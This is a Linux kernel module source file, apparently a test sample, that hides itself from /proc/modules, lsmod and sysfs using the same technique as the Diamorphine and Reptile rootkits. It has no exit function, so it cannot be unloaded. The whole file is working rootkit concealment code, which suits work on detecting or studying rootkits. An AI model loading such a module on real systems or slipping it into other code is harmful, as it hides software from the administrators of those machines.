// SPDX-License-Identifier: GPL-2.0
/*
 * rk_hide_mod: removes itself from the module list (/proc/modules, lsmod)
 * and from sysfs (/sys/module/rk_hide_mod), as Diamorphine and Reptile do.
 * It stays in the kernel's module address tree and in the module area.
 * A hidden module cannot be unloaded: it has no exit function.
 */
#include <linux/kobject.h>
#include <linux/list.h>
#include "rk_common.h"

static int __init rk_hide_mod_init(void)
{
	pr_info("rk_hide_mod: hiding module at %px\n", THIS_MODULE);
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(rk_hide_mod_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("test rootkit technique: a module hidden from the module list and sysfs");
